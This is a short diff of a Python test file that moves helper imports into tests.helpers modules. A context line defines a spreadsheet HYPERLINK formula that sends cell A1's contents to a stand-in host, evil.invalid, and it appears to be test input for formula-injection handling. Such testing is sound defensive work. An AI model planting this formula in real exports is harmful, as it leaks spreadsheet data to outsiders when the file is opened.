@@ -7,7 +7,8 @@ import csv
 import json
 from pathlib import Path
 
-from report_helpers import clue, level1_tasks, write_run
+from tests.helpers.cli import clue
+from tests.helpers.fake_runs import level1_tasks, write_run
 
 # Folder names: anything but "/".
 FORMULA = '=HYPERLINK("https:evil.invalid?leak="&A1,"click")'
